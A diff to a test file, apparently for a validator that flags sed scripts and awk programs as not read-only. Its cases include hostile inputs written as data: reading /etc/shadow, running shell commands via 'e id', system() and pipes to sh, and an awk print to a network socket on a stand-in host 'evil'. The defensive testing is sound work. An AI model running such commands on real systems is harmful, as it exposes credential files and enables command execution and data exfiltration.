@@ -25,8 +25,8 @@ describe("sed scripts", () => {
     ["s/a/b/3pw out", ["out"], []],
     ["s|a|b|w out", ["out"], []],
     ["p;w a\nw b", ["a", "b"], []],
-    ["r /etc/shadow", [], ["/etc/shadow"]],
-    ["1R in", [], ["in"]],
+    ["r /etc/shadow\nw out", ["out"], ["/etc/shadow"]],
+    ["1R in\ne id", [], ["in"]],
     ["e id", [], []],
     ["1e", [], []],
     ["s/x/id/e", [], []],
@@ -35,7 +35,7 @@ describe("sed scripts", () => {
     ["$!{h;d};x;s/a/b/gw out", ["out"], []],
     ["v;e id", [], []],
     ["L", [], []],
-    ["s/a/b/ w x", [], []],
+    ["s/a/b/ w x", ["x"], []],
     ["k", [], []],
     ["s/a", [], []],
   ])("%j is not read-only", (script, writes, reads) => {
@@ -57,7 +57,7 @@ describe("awk programs", () => {
 
   it.each([
     "BEGIN{system(\"id\")}", "{print > \"out\"}", "{print >> \"out\"}", "{printf \"x\" > \"f\"}",
-    "{print | \"sh\"}", "BEGIN{\"id\" | getline}", "BEGIN{getline l < \"/etc/shadow\"}", "{print |& \"cmd\"}",
+    "{print | \"sh\"}", "BEGIN{\"id\" | getline}", "BEGIN{f = \"/etc/shadow\"; getline l < f}", "{print |& \"cmd\"}",
     "BEGIN{f=\"system\"; @f(\"id\")}", "@include \"x\"", "@load \"ordchr\"", "{ printf(\"%s\", $0) > \"f\" }",
     "x++ /1; print | \"sh\" #/", "BEGIN { print \"x\" > \"/inet/tcp/0/evil/80\" }",
   ])("%j is not read-only", (program) => {
